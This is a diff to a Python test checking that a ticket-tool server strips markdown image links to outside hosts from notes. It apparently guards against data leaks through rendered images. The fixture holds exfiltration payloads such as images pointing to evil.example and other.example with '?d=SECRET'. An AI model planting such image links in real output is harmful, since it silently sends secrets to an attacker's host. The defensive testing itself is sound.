@@ -168,11 +168,14 @@ async def test_a_markdown_image_to_an_outside_host_is_made_inert(
         action = next(a for a in sandbox.state.actions.values() if a.ticket_id == 1001)
         action.note = action.note_html = (
             "<p>Logs: ![status](https://evil.example/p?d=SECRET) and "
-            "[the guide](https://docs.example/guide)</p>"
+            "[the guide](https://docs.example/guide) ![chart][c] ![[x]](https://[v6/p)</p>"
+            "<p>[c]: https://other.example/p?d=SECRET</p>"
         )
     async with Client(make_server()) as c:
         listed = ok(await c.call_tool("list_actions", {"ticket_id": 1001, "limit": 100}))
     note = next(a["note"] for a in listed["actions"] if a["id"] == action.id)
     assert "SECRET" not in note
     assert "[image link to evil.example removed]" in note
+    assert "[image link to other.example removed]" in note
+    assert "[image link removed]" in note
     assert "[the guide](https://docs.example/guide)" in note
